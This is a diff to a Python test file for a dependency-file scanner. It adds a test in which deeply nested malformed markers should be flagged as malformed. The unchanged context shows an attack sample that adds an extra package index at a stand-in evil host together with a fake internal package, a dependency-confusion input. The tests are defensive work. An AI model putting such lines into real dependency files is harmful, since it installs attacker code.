@@ -7,7 +7,7 @@ Compromised releases: ultralytics, December 2024. Vulnerable loaders: CVE-2025-3
 import pytest
 
 from fastness.models.scan import Outcome
-from tests.unit.models.scan.artifacts import report_of
+from tests.unit.models.scan.artifacts import report_of, rules_of
 
 ATTACKS = {
     "dependency confusion by a second index": ("requirements.txt", "--extra-index-url https://packages.evil.example/simple\nmodel-internal==9.9\n"),
@@ -51,3 +51,8 @@ HONEST = {
 def test_honest_lists_pass(name: str, text: str) -> None:
     report = report_of(text.encode(), name)
     assert report.outcome is Outcome.PASS, report.table()
+
+
+@pytest.mark.parametrize("line", ["a; " + "(" * 5000, "b==" + "(" * 5000])
+def test_markers_that_nest_without_end_are_no_fault_of_the_reader(line: str) -> None:
+    assert rules_of(report_of(line.encode(), "requirements.txt")) == {"requirements-malformed"}
